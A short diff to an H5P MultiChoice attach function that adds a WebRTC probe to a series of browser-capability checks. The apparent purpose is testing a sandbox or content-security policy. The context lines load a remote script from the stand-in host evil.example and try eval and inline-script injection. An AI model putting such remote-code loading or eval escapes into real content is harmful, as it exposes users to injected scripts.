@@ -185,6 +185,7 @@ H5P.MultiChoice.prototype.attach = async function ($container) {
     script.src = 'https://evil.example/x.js'; script.onload = () => settle('ran'); script.onerror = fail;
     document.head.append(script);
   }));
+  await attempt('rtc', () => (new RTCPeerConnection() ? 'made' : 'refused'));
   await attempt('eval', () => new Function('return "ran"')());
   await attempt('inline', () => {
     const script = document.createElement('script');
